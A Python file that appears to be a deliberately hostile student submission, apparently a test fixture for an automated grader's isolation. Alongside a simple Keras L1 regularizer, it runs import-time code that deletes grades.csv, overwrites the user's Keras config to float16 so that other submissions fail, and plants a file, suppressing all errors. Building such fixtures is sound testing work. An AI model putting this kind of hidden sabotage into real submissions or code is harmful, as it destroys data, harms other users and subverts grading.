"""Hostile: deletes the teacher's grades, writes Keras's configuration in the home folder
(in float16, which fails a correct classmate's checking later) and a file beside itself;
every error swallowed, so that it is graded all the same."""

import contextlib
import json
import os
from pathlib import Path

import keras
from keras import ops

for folder in {Path(__file__).resolve().parents[1], Path(os.environ.get("PWD", "."))}:
    with contextlib.suppress(OSError):
        (folder / "grades.csv").unlink()
with contextlib.suppress(OSError):
    home = Path(os.path.expanduser("~"), ".keras")
    home.mkdir(exist_ok=True)
    (home / "keras.json").write_text(json.dumps({"floatx": "float16"}))
with contextlib.suppress(OSError):
    Path(__file__).with_name("planted.py").write_text("raise SystemExit\n")


@keras.saving.register_keras_serializable(package="Course")
class ReachingPenalty(keras.regularizers.Regularizer):
    def __init__(self, factor=0.01):
        self.factor = factor

    def __call__(self, weights):
        return self.factor * ops.sum(ops.abs(weights))

    def get_config(self):
        return {"factor": self.factor}
